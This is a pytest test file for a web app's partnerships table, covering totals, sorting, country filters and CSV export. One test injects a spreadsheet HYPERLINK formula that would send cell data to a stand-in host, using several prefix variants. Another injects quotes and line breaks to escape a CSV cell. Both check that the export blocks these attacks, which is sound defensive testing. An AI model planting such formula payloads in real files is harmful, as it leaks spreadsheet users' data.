"""A journalist adds up who paid how much. (A23)"""

import csv

import pytest

from home.partnerships.models import Partnership
from tests.home.public.site import soup, words


def table(response):
    page = soup(response)
    rows = [[words(cell) for cell in row.find_all(["th", "td"])] for row in page.select("tbody tr")]
    return rows, words(page.select_one("tfoot"))


def amounts(response):
    return [int(row[-1].replace(",", "")) for row in table(response)[0]]


def as_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(response.content.decode("utf-8-sig").splitlines()))


def test_the_six_projects_add_up(client):
    rows, total = table(client.get("/partnerships/"))
    assert len(rows) == 6
    assert "11,926,829" in total
    assert sum(amounts(client.get("/partnerships/"))) == 11_926_829


def test_the_largest_stands_first_and_other_orders_can_be_chosen(client):
    assert amounts(client.get("/partnerships/?sort=amount")) == sorted(
        amounts(client.get("/partnerships/")), reverse=True
    )
    years = [row[3] for row in table(client.get("/partnerships/?sort=year"))[0]]
    assert years == sorted(years)
    assert amounts(client.get("/partnerships/?sort=country")) != amounts(
        client.get("/partnerships/")
    )


def test_one_country_can_be_chosen_and_the_total_follows(client):
    rows, total = table(client.get("/partnerships/?country=GH"))
    assert [row[1] for row in rows] == ["Ghana"]
    assert "300,000" in total


@pytest.mark.parametrize("query", ["", "?country=GH", "?sort=year", "?country=IN&sort=country"])
def test_the_csv_holds_the_rows_of_the_page(client, query):
    address = f"/partnerships/{query}"
    link = soup(client.get(address)).select_one("main a[href*='format=csv']")["href"]
    rows = as_csv(client.get(f"/partnerships/{link}"))[1:]
    assert [int(row[4]) for row in rows] == amounts(client.get(address))


def test_a_title_cannot_become_a_formula_in_a_spreadsheet(client):
    row = Partnership.objects.first()
    for start in ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\ufeff="]:
        row.title = f'{start}HYPERLINK("https://example.org?"&A1,"x")'
        row.save()
        for line in as_csv_file(client.get("/partnerships/?format=csv"))[1:]:
            assert line[0].lstrip(" \t\r\n\ufeff")[:1] not in set("=+-@＝＋－＠"), repr(line[0])


def test_a_title_cannot_break_out_of_its_cell(client):
    row = Partnership.objects.first()
    row.title = 'a","b\r\n"c";d\n1,2'
    row.save()
    rows = as_csv_file(client.get("/partnerships/?format=csv"))
    assert len(rows) == 7
    assert {len(line) for line in rows} == {8}
    assert row.title in [line[0] for line in rows]


def as_csv_file(response):
    import io

    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
